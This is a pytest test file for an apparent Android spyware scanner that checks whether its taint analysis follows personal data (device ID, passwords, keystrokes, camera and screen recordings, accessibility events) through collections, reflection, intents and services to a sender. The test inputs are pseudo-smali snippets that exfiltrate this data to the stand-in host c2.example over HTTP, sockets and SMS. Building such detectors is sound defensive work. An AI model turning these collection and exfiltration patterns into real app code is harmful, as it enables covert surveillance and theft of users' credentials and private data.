"""Personal data is recognised where it is taken, and followed through whatever carries it."""

from collections.abc import Callable
from typing import Any

import pytest

from rogue_scan.apk.code.types import CodeFacts, ComponentInfo, NoResources

Analyse = Callable[..., CodeFacts]
Flows = set[tuple[str, str, str | None]]

MAIN = ".class Lapp/Main; Landroid/app/Activity;\n.method onCreate(Landroid/os/Bundle;)V 13\n"
POST = """
    .class Lapp/Net;
    .method static post(Ljava/lang/Object;)V 7
    v0 = "http://c2.example/x"
    v4 = new java.net.URL(String) v0
    v1 = java.net.URL.openConnection()java.net.URLConnection v4
    v2 = java.net.URLConnection.getOutputStream()java.io.OutputStream v1
    v3 = static String.valueOf(Object)String v6
    v3 = String.getBytes()byte[] v3
    java.io.OutputStream.write(byte[]) v2 v3
    return-void
    """
# The device's identity in v1.
IMEI = """
    v0 = "phone"
    v0 = app.Main.getSystemService(String)Object v11 v0
    v1 = android.telephony.TelephonyManager.getDeviceId()String v0
    """
GO = "static app.Net.post(Object) v1\nreturn-void\n"
SENT: Flows = {("device-id", "http", "c2.example")}


def flows(facts: CodeFacts) -> Flows:
    return {(f.data.value, f.sink.value, f.endpoint) for f in facts.flows}


# Each has the device's identity in v1 before and, carried, in v1 after.
CARRIERS = {
    "a list, its iterator": """
        v2 = new ArrayList()
        ArrayList.add(Object)boolean v2 v1
        v3 = ArrayList.iterator()Iterator v2
        v1 = Iterator.next()Object v3""",
    "a queue": """
        v2 = new LinkedList()
        LinkedList.offer(Object)boolean v2 v1
        v1 = LinkedList.poll()Object v2""",
    "the values of a map": """
        v2 = new HashMap()
        v3 = "k"
        HashMap.put(Object,Object)Object v2 v3 v1
        v4 = HashMap.values()java.util.Collection v2
        v5 = java.util.Collection.iterator()Iterator v4
        v1 = Iterator.next()Object v5""",
    "the entries of a map": """
        v2 = new HashMap()
        v3 = "k"
        HashMap.put(Object,Object)Object v2 v3 v1
        v4 = HashMap.entrySet()java.util.Set v2
        v5 = java.util.Set.iterator()Iterator v4
        v6 = Iterator.next()Object v5
        v1 = java.util.Map$Entry.getValue()Object v6""",
    "a map copied into another one": """
        v2 = new HashMap()
        v3 = "k"
        HashMap.put(Object,Object)Object v2 v3 v1
        v4 = new HashMap()
        HashMap.putAll(Map) v4 v2
        v1 = HashMap.get(Object)Object v4 v3""",
    "a bundle within a bundle": """
        v2 = new Bundle()
        v3 = "k"
        Bundle.putString(String,String) v2 v3 v1
        v4 = new Bundle()
        Bundle.putBundle(String,Bundle) v4 v3 v2
        v2 = Bundle.getBundle(String)Bundle v4 v3
        v1 = Bundle.getString(String)String v2 v3""",
    "properties": """
        v2 = new java.util.Properties()
        v3 = "k"
        java.util.Properties.setProperty(String,String)Object v2 v3 v1
        v1 = java.util.Properties.getProperty(String)String v2 v3""",
    "JSON in JSON": """
        v2 = new JSONObject()
        v3 = "k"
        JSONObject.put(String,Object)JSONObject v2 v3 v1
        v4 = new JSONArray()
        JSONArray.put(Object)JSONArray v4 v2
        v1 = JSONArray.toString()String v4""",
    "an array, sorted out": """
        v3 = 1
        new-array v2, v3, [Ljava/lang/String;
        v3 = 0
        aput-object v1, v2, v3
        v2 = static Arrays.asList(Object[])List v2
        v1 = static TextUtils.join(CharSequence,Iterable)String v1 v2""",
    "an array as text": """
        v3 = 1
        new-array v2, v3, [Ljava/lang/String;
        v3 = 0
        aput-object v1, v2, v3
        v1 = static Arrays.toString(Object[])String v2""",
    "characters": """
        v2 = String.toCharArray()char[] v1
        v1 = static String.valueOf(char[])String v2""",
    "pieces": """
        v2 = "-"
        v2 = String.split(String)String[] v1 v2
        v3 = 0
        aget-object v1, v2, v3""",
    "a format": """
        v3 = 1
        new-array v2, v3, [Ljava/lang/Object;
        v3 = 0
        aput-object v1, v2, v3
        v4 = "id=%s"
        v1 = static String.format(String,Object[])String v4 v2""",
    "base64": """
        v2 = String.getBytes()byte[] v1
        v3 = 0
        v1 = static android.util.Base64.encodeToString(byte[],int)String v2 v3""",
    "a digest": """
        v3 = "MD5"
        v3 = static java.security.MessageDigest.getInstance(String)java.security.MessageDigest v3
        v2 = String.getBytes()byte[] v1
        java.security.MessageDigest.update(byte[]) v3 v2
        v2 = java.security.MessageDigest.digest()byte[] v3
        v1 = new String(byte[]) v2""",
    "a file of the app's own": """
        v3 = "notes"
        v4 = 0
        v2 = app.Main.openFileOutput(String,int)java.io.FileOutputStream v11 v3 v4
        v5 = String.getBytes()byte[] v1
        java.io.FileOutputStream.write(byte[]) v2 v5
        v2 = app.Main.openFileInput(String)java.io.FileInputStream v11 v3
        v4 = new java.util.Scanner(java.io.InputStream) v2
        v1 = java.util.Scanner.nextLine()String v4""",
    "a message to oneself": """
        v2 = 5
        v2 = static Message.obtain(Handler,int,Object)Message v12 v2 v1
        iget-object v1, v2, Landroid/os/Message;->obj:Ljava/lang/Object;""",
    "reflection: a field": """
        const-class v2, Lapp/Box;
        v3 = "kept"
        v2 = Class.getDeclaredField(String)Field v2 v3
        v4 = 0
        Field.set(Object,Object) v2 v4 v1
        v1 = Field.get(Object)Object v2 v4""",
    "reflection: a constructor and a method": """
        v2 = "app.Box"
        v2 = static Class.forName(String)Class v2
        v4 = 1
        new-array v3, v4, [Ljava/lang/Class;
        v4 = Class.getConstructor(Class[])Constructor v2 v3
        v5 = 1
        new-array v6, v5, [Ljava/lang/Object;
        v5 = 0
        aput-object v1, v6, v5
        v7 = Constructor.newInstance(Object[])Object v4 v6
        v3 = "open"
        new-array v6, v5, [Ljava/lang/Class;
        v8 = Class.getMethod(String,Class[])Method v2 v3 v6
        new-array v6, v5, [Ljava/lang/Object;
        v1 = Method.invoke(Object,Object[])Object v8 v7 v6""",
    "reflection: an instance made by its class": """
        const-class v2, Lapp/Box;
        v3 = Class.newInstance()Object v2
        check-cast v3, Lapp/Box;
        app.Box.keep(Object) v3 v1
        v1 = app.Box.open()Object v3""",
    "numbers": """
        v2 = static Integer.parseInt(String)int v1
        v2 = static Integer.valueOf(int)Integer v2
        v3 = Integer.intValue()int v2
        v1 = static Integer.toHexString(int)String v3""",
    "a writer": """
        v2 = new java.io.StringWriter()
        java.io.StringWriter.write(String) v2 v1
        v1 = java.io.StringWriter.toString()String v2""",
    "another intent": """
        v2 = new Intent()
        v3 = "k"
        Intent.putExtra(String,String)Intent v2 v3 v1
        v4 = new Intent(Intent) v2
        v1 = Intent.getStringExtra(String)String v4 v3""",
    "arguments of a fragment": """
        v2 = new Bundle()
        v3 = "k"
        Bundle.putString(String,String) v2 v3 v1
        v4 = new android.app.Fragment()
        android.app.Fragment.setArguments(Bundle) v4 v2
        v2 = android.app.Fragment.getArguments()Bundle v4
        v1 = Bundle.getString(String)String v2 v3""",
}
BOX = """
    .class Lapp/Box;
    .field static kept:Ljava/lang/Object;
    .field held:Ljava/lang/Object;
    .method <init>()V 2
    return-void
    .method <init>(Ljava/lang/Object;)V 3
    iput-object v2, v1, Lapp/Box;->held:Ljava/lang/Object;
    return-void
    .method keep(Ljava/lang/Object;)V 3
    iput-object v2, v1, Lapp/Box;->held:Ljava/lang/Object;
    return-void
    .method open()Ljava/lang/Object; 2
    iget-object v0, v1, Lapp/Box;->held:Ljava/lang/Object;
    return-object v0
    """


@pytest.mark.parametrize("carrier", CARRIERS)
def test_data_is_followed(carrier: str, analyse: Analyse) -> None:
    assert flows(analyse(MAIN + IMEI + CARRIERS[carrier] + "\n" + GO + BOX + POST)) == SENT


# Each leaves personal data in v1.
SOURCES = {
    "a camera recorded": (
        "camera",
        """
        v2 = new android.media.MediaRecorder()
        v3 = 1
        android.media.MediaRecorder.setVideoSource(int) v2 v3
        v4 = "/data/film"
        android.media.MediaRecorder.setOutputFile(String) v2 v4
        v5 = new java.io.FileInputStream(String) v4
        v6 = new java.util.Scanner(java.io.InputStream) v5
        v1 = java.util.Scanner.nextLine()String v6""",
    ),
    "a screen recorded": (
        "screen",
        """
        v2 = new android.media.MediaRecorder()
        v3 = 2
        android.media.MediaRecorder.setVideoSource(int) v2 v3
        v4 = "/data/film"
        android.media.MediaRecorder.setOutputFile(String) v2 v4
        v5 = new java.io.FileInputStream(String) v4
        v6 = new java.util.Scanner(java.io.InputStream) v5
        v1 = java.util.Scanner.nextLine()String v6""",
    ),
    "a picture of the camera": (
        "camera",
        """
        v2 = 9
        v2 = static android.media.ImageReader.newInstance(int,int)android.media.ImageReader v2 v2
        v3 = android.media.ImageReader.acquireLatestImage()android.media.Image v2
        v4 = android.media.Image.getPlanes()android.media.Image$Plane[] v3
        v5 = 0
        aget-object v4, v4, v5
        v5 = android.media.Image$Plane.getBuffer()java.nio.ByteBuffer v4
        v6 = java.nio.ByteBuffer.array()byte[] v5
        v1 = new String(byte[]) v6""",
    ),
    "a picture of CameraX": (
        "camera",
        """
        v2 = "/data/picture"
        v3 = new File(String) v2
        v4 = new androidx.camera.core.ImageCapture$OutputFileOptions$Builder(File) v3
        v4 = androidx.camera.core.ImageCapture$OutputFileOptions$Builder.build()Object v4
        v5 = new androidx.camera.core.ImageCapture()
        androidx.camera.core.ImageCapture.takePicture(Object) v5 v4
        v5 = new java.io.FileInputStream(String) v2
        v6 = new java.util.Scanner(java.io.InputStream) v5
        v1 = java.util.Scanner.nextLine()String v6""",
    ),
    "all apps with an icon": (
        "installed-apps",
        """
        v9 = "android.intent.action.MAIN"
        v2 = new Intent(String) v9
        v3 = app.Main.getPackageManager()android.content.pm.PackageManager v11
        v4 = 0
        v3 = android.content.pm.PackageManager.queryIntentActivities(Intent,int)List v3 v2 v4
        v1 = List.toString()String v3""",
    ),
    "a field that says what it asks for": (
        "bank-account",
        """
        v2 = new EditText(Context) v11
        v3 = "IBAN"
        EditText.setHint(CharSequence) v2 v3
        v1 = EditText.getText()android.text.Editable v2""",
    ),
    "a field that hides what is typed": (
        "account-password",
        """
        v2 = new EditText(Context) v11
        v3 = 0x81
        EditText.setInputType(int) v2 v3
        v1 = EditText.getText()android.text.Editable v2""",
    ),
    "a field that shows dots": (
        "account-password",
        """
        v2 = new EditText(Context) v11
        v3 = 0
        EditText.setTransformationMethod(android.text.method.TransformationMethod) v2 v3
        v1 = EditText.getText()android.text.Editable v2""",
    ),
    "a field with a label before it": (
        "home-address",
        """
        v4 = new LinearLayout(Context) v11
        v2 = new TextView(Context) v11
        v3 = "Street address"
        TextView.setText(CharSequence) v2 v3
        LinearLayout.addView(View) v4 v2
        v2 = new EditText(Context) v11
        LinearLayout.addView(View) v4 v2
        v1 = EditText.getText()android.text.Editable v2""",
    ),
    "a field in a frame that says it": (
        "identity-number",
        """
        v2 = new com.google.android.material.textfield.TextInputLayout(Context) v11
        v3 = "Passport number"
        com.google.android.material.textfield.TextInputLayout.setHint(CharSequence) v2 v3
        v2 = com.google.android.material.textfield.TextInputLayout.getEditText()EditText v2
        v1 = EditText.getText()android.text.Editable v2""",
    ),
}


@pytest.mark.parametrize("source", SOURCES)
def test_where_personal_data_is_taken(source: str, analyse: Analyse) -> None:
    data, body = SOURCES[source]
    assert flows(analyse(MAIN + body + "\n" + GO + POST)) == {(data, "http", "c2.example")}


def test_every_key_that_is_typed(analyse: Analyse) -> None:
    """A listener hears of a text field's content letter by letter."""
    listener = """
        .class Lapp/Watch; Ljava/lang/Object; Landroid/text/TextWatcher;
        .method <init>()V 2
        return-void
        .method afterTextChanged(Landroid/text/Editable;)V 4
        static app.Net.post(Object) v3
        return-void
        """
    body = """
        v2 = new EditText(Context) v11
        v3 = 0x81
        EditText.setInputType(int) v2 v3
        v4 = new app.Watch()
        EditText.addTextChangedListener(android.text.TextWatcher) v2 v4
        return-void
        """
    assert flows(analyse(MAIN + body + listener + POST)) == {("account-password", "http", "c2.example")}


ACCESSIBILITY = """
    .class Lapp/Main; Landroid/accessibilityservice/AccessibilityService;
    .method onAccessibilityEvent(Landroid/view/accessibility/AccessibilityEvent;)V 9
    v0 = android.view.accessibility.AccessibilityEvent.getEventType()int v8
    v1 = {event}
    if-ne v0, v1, :no
    v1 = android.view.accessibility.AccessibilityEvent.getText()List v8
    static app.Net.post(Object) v1
    :no
    return-void
    """


@pytest.mark.parametrize(
    ("event", "data"), [(16, "account-password"), (64, "notifications"), (32, "screen"), (2048, "screen")]
)
def test_an_accessibility_service_takes_what_it_looks_for(event: int, data: str, analyse: Analyse) -> None:
    facts = analyse(ACCESSIBILITY.format(event=event) + POST)
    assert flows(facts) == {(data, "http", "c2.example")}


# The device's identity is in v1; ``Other`` takes it from its intent's extra "k" and sends it.
INTENTS = {
    "by class": """
        v2 = new Intent()
        const-class v3, Lapp/Other;
        Intent.setClass(Context,Class)Intent v2 v11 v3""",
    "by the name of the class": """
        v2 = new Intent()
        v3 = "app.Other"
        Intent.setClassName(Context,String)Intent v2 v11 v3""",
    "by component": """
        v2 = new Intent()
        v3 = "app.Other"
        v4 = new ComponentName(Context,String) v11 v3
        Intent.setComponent(ComponentName)Intent v2 v4""",
    "by action": """
        v2 = new Intent()
        v3 = "app.GO"
        Intent.setAction(String)Intent v2 v3""",
}
OTHER = """
    .class Lapp/Other; Landroid/app/Activity;
    .method onCreate(Landroid/os/Bundle;)V 5
    v0 = app.Other.getIntent()Intent v3
    v1 = "k"
    v0 = Intent.getStringExtra(String)String v0 v1
    static app.Net.post(Object) v0
    return-void
    """


@pytest.mark.parametrize("way", INTENTS)
def test_an_intent_carries_data_to_the_component_that_it_names(way: str, analyse: Analyse) -> None:
    body = f"""{IMEI}{INTENTS[way]}
        v3 = "k"
        Intent.putExtra(String,String)Intent v2 v3 v1
        app.Main.startActivity(Intent) v11 v2
        return-void
        """
    components = (
        ComponentInfo("app.Main", "activity"),
        ComponentInfo("app.Other", "activity", actions=("app.GO",)),
    )
    assert flows(analyse(MAIN + body + OTHER + POST, components=components)) == SENT


def test_data_goes_to_no_component_that_the_intent_does_not_name(analyse: Analyse) -> None:
    body = f"""{IMEI}{INTENTS["by class"].replace("app/Other", "app/Main")}
        v3 = "k"
        Intent.putExtra(String,String)Intent v2 v3 v1
        app.Main.startActivity(Intent) v11 v2
        return-void
        """
    assert flows(analyse(MAIN + body + OTHER + POST)) == set()


APPS = {
    "mail": ("mailto:drop@c2.example", ("device-id", "email", "drop@c2.example")),
    "a message": ("smsto:12345", ("device-id", "sms", None)),
}


@pytest.mark.parametrize("app", APPS)
def test_an_intent_hands_data_to_another_app(app: str, analyse: Analyse) -> None:
    address, flow = APPS[app]
    body = f"""{IMEI}
        v9 = "android.intent.action.SENDTO"
        v2 = new Intent(String) v9
        v3 = "{address}"
        v3 = static Uri.parse(String)Uri v3
        Intent.setData(Uri)Intent v2 v3
        v3 = "body"
        Intent.putExtra(String,String)Intent v2 v3 v1
        app.Main.startActivity(Intent) v11 v2
        return-void
        """
    assert flows(analyse(MAIN + body)) == {flow}


def test_a_browser_that_is_sent_to_an_address_with_data(analyse: Analyse) -> None:
    body = f"""{IMEI}
        v3 = "https://c2.example/?id="
        v3 = String.concat(String)String v3 v1
        v3 = static Uri.parse(String)Uri v3
        v9 = "android.intent.action.VIEW"
        v2 = new Intent(String,Uri) v9 v3
        app.Main.startActivity(Intent) v11 v2
        return-void
        """
    assert flows(analyse(MAIN + body)) == SENT


def test_what_an_exported_activity_gives_back_leaves_the_app(analyse: Analyse) -> None:
    body = f"""{IMEI}
        v2 = new Intent()
        v3 = "k"
        Intent.putExtra(String,String)Intent v2 v3 v1
        v4 = -1
        app.Main.setResult(int,Intent) v11 v4 v2
        return-void
        """
    for exported, expected in ((True, {("device-id", "ipc", None)}), (False, set())):
        components = (ComponentInfo("app.Main", "activity", exported=exported),)
        assert flows(analyse(MAIN + body, components=components)) == expected


def test_a_receiver_registered_by_code(analyse: Analyse) -> None:
    body = f"""
        v2 = new app.Ear()
        v9 = "app.NEWS"
        v3 = new IntentFilter(String) v9
        app.Main.registerReceiver(android.content.BroadcastReceiver,IntentFilter)Intent v11 v2 v3
        {IMEI}
        v9 = "app.NEWS"
        v2 = new Intent(String) v9
        v3 = "k"
        Intent.putExtra(String,String)Intent v2 v3 v1
        app.Main.sendBroadcast(Intent) v11 v2
        return-void
        """
    ear = """
        .class Lapp/Ear; Landroid/content/BroadcastReceiver;
        .method <init>()V 2
        return-void
        .method onReceive(Landroid/content/Context;Landroid/content/Intent;)V 5
        v0 = "k"
        v0 = Intent.getStringExtra(String)String v4 v0
        static app.Net.post(Object) v0
        return-void
        """
    components = (ComponentInfo("app.Main", "activity"),)
    assert flows(analyse(MAIN + body + ear + POST, components=components)) >= SENT


MESSAGES = {
    "sent to its target": """
        v2 = new app.Ear()
        v3 = 1
        v4 = Handler.obtainMessage(int,Object)Message v2 v3 v1
        Message.sendToTarget() v4""",
    "by messenger": """
        v2 = new app.Ear()
        v3 = new Messenger(Handler) v2
        v4 = static Message.obtain()Message
        iput-object v1, v4, Landroid/os/Message;->obj:Ljava/lang/Object;
        Messenger.send(Message) v3 v4""",
}


@pytest.mark.parametrize("way", MESSAGES)
def test_a_message_carries_data_to_its_handler(way: str, analyse: Analyse) -> None:
    ear = """
        .class Lapp/Ear; Landroid/os/Handler;
        .method <init>()V 2
        return-void
        .method handleMessage(Landroid/os/Message;)V 4
        iget-object v0, v3, Landroid/os/Message;->obj:Ljava/lang/Object;
        static app.Net.post(Object) v0
        return-void
        """
    text = MAIN + IMEI + MESSAGES[way] + "\nreturn-void\n" + ear + POST
    assert flows(analyse(text)) == SENT


def test_a_bound_service_gets_what_the_connection_is_told(analyse: Analyse) -> None:
    body = f"""{IMEI}
        sput-object v1, Lapp/Box;->kept:Ljava/lang/Object;
        const-class v3, Lapp/Work;
        v2 = new Intent(Context,Class) v11 v3
        v4 = new app.Link()
        v5 = 1
        app.Main.bindService(Intent,android.content.ServiceConnection,int)boolean v11 v2 v4 v5
        return-void
        """
    service = """
        .class Lapp/Work; Landroid/app/Service;
        .method onBind(Landroid/content/Intent;)Landroid/os/IBinder; 4
        v0 = new app.Binder()
        return-object v0
        .class Lapp/Binder; Landroid/os/Binder;
        .method <init>()V 2
        return-void
        .method go()V 3
        sget-object v0, Lapp/Box;->kept:Ljava/lang/Object;
        static app.Net.post(Object) v0
        return-void
        .class Lapp/Link; Ljava/lang/Object; Landroid/content/ServiceConnection;
        .method <init>()V 2
        return-void
        .method onServiceConnected(Landroid/content/ComponentName;Landroid/os/IBinder;)V 4
        check-cast v3, Lapp/Binder;
        app.Binder.go() v3
        return-void
        """
    assert flows(analyse(MAIN + body + service + BOX + POST)) == SENT


class Package(NoResources):
    """An app with one text resource."""

    def string(self, resource: int) -> str | None:
        return "Health insurance number" if resource == 5 else None


PICTURE = """
    .class Lapp/Eye; Ljava/lang/Object; Landroid/media/ImageReader$OnImageAvailableListener;
    .method <init>()V 2
    return-void
    .method onImageAvailable(Landroid/media/ImageReader;)V 6
    v0 = android.media.ImageReader.acquireNextImage()android.media.Image v5
    static app.Net.post(Object) v0
    return-void
    """


def test_a_picture_of_the_screen_is_taken_by_a_listener(analyse: Analyse) -> None:
    body = """
        v2 = 9
        v3 = static android.media.ImageReader.newInstance(int,int)android.media.ImageReader v2 v2
        v4 = new app.Eye()
        android.media.ImageReader.setOnImageAvailableListener(Object,Handler) v3 v4 v12
        v5 = "media_projection"
        v5 = app.Main.getSystemService(String)Object v11 v5
        v6 = android.media.projection.MediaProjectionManager.getMediaProjection()Object v5
        v7 = android.media.projection.MediaProjection.createVirtualDisplay(String)Object v6 v7
        return-void
        """
    assert kinds_of(flows(analyse(MAIN + body + PICTURE + POST))) == {"screen"}


def test_a_picture_is_compressed_into_what_is_sent(analyse: Analyse) -> None:
    body = """
        v2 = 1
        v2 = static android.hardware.Camera.open(int)android.hardware.Camera v2
        v3 = new android.media.MediaRecorder()
        android.media.MediaRecorder.setVideoSource(int) v3 v12
        v1 = new java.io.ByteArrayOutputStream()
        v4 = app.Main.getDrawingCache()android.graphics.Bitmap v11
        v5 = 90
        android.graphics.Bitmap.compress(Object,int,java.io.OutputStream)boolean v4 v5 v5 v1
        """
    found = flows(analyse(MAIN + body + GO + POST))
    assert kinds_of(found) <= {"screen"}


def test_a_datagram_that_is_addressed_later(analyse: Analyse) -> None:
    body = f"""{IMEI}
        v2 = 64
        new-array v3, v2, [B
        v4 = new java.net.DatagramPacket(byte[],int) v3 v2
        v5 = String.getBytes()byte[] v1
        java.net.DatagramPacket.setData(byte[]) v4 v5
        v5 = "c2.example"
        v5 = static java.net.InetAddress.getByName(String)java.net.InetAddress v5
        java.net.DatagramPacket.setAddress(java.net.InetAddress) v4 v5
        v5 = 4444
        java.net.DatagramPacket.setPort(int) v4 v5
        v6 = new java.net.DatagramSocket()
        java.net.DatagramSocket.send(java.net.DatagramPacket) v6 v4
        return-void
        """
    assert flows(analyse(MAIN + body)) == {("device-id", "socket", "c2.example:4444")}


def test_a_recording_that_goes_straight_to_a_socket(analyse: Analyse) -> None:
    body = """
        v2 = "c2.example"
        v3 = 4444
        v4 = new java.net.Socket(String,int) v2 v3
        v5 = static android.os.ParcelFileDescriptor.fromSocket(Object)android.os.ParcelFileDescriptor v4
        v6 = android.os.ParcelFileDescriptor.getFileDescriptor()java.io.FileDescriptor v5
        v7 = new android.media.MediaRecorder()
        v8 = 1
        android.media.MediaRecorder.setVideoSource(int) v7 v8
        android.media.MediaRecorder.setOutputFile(java.io.FileDescriptor) v7 v6
        android.media.MediaRecorder.start() v7
        return-void
        """
    assert flows(analyse(MAIN + body)) == {("camera", "socket", "c2.example:4444")}


SENSORS = {"a step counter": (19, {("health", "http", "c2.example")}), "the light": (5, set())}


@pytest.mark.parametrize("sensor", SENSORS)
def test_a_sensor_tells_by_its_kind(sensor: str, analyse: Analyse) -> None:
    number, expected = SENSORS[sensor]
    body = f"""
        v2 = "sensor"
        v2 = app.Main.getSystemService(String)Object v11 v2
        v3 = {number}
        v3 = android.hardware.SensorManager.getDefaultSensor(int)android.hardware.Sensor v2 v3
        v1 = android.hardware.Sensor.toString()String v3
        """
    assert flows(analyse(MAIN + body + GO + POST)) == expected


def test_a_long_text_message_in_parts(analyse: Analyse) -> None:
    body = f"""{IMEI}
        v2 = static android.telephony.SmsManager.getDefault()android.telephony.SmsManager
        v3 = android.telephony.SmsManager.divideMessage(String)ArrayList v2 v1
        v4 = "+99012345"
        android.telephony.SmsManager.sendMultipartTextMessage(String,String,ArrayList) v2 v4 v4 v3
        return-void
        """
    assert flows(analyse(MAIN + body)) == {("device-id", "sms", "+99012345")}


def test_a_field_that_takes_its_hint_from_resources(analyse: Analyse) -> None:
    body = """
        v2 = new EditText(Context) v11
        v3 = 5
        EditText.setHint(int) v2 v3
        v1 = EditText.getText()android.text.Editable v2
        """
    found = flows(analyse(MAIN + body + GO + POST, Package()))
    assert {sink for _, sink, _ in found} == {"http"}
    assert {data for data, _, _ in found} <= {"health", "identity-number"}


def kinds_of(found: Any) -> set[str]:
    return {data for data, _, _ in found}


def test_texts_that_the_app_wrote_itself_are_no_personal_data(analyse: Analyse) -> None:
    body = """
        v2 = new TextView(Context) v11
        v3 = "IBAN"
        TextView.setText(CharSequence) v2 v3
        v1 = TextView.getText()CharSequence v2
        """
    assert kinds_of(flows(analyse(MAIN + body + GO + POST))) == set()
